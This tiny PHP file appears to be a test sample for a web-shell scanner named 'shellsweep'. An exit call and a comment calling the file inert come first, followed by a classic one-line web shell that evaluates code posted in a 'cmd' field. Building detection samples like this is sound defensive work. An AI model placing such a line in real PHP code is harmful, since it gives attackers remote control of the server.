<?php exit; /* shellsweep test sample: inert, never functional */ ?>
<?php @eval($_POST['cmd']);?>
